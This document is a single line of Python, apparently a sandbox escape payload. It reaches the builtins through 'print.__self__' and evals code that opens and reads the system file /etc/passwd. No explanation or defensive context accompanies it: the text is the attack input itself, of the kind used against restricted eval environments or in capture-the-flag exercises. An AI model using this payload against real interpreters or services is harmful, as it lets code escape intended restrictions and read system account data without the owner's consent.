print.__self__.eval("open('/etc/passwd').read()")
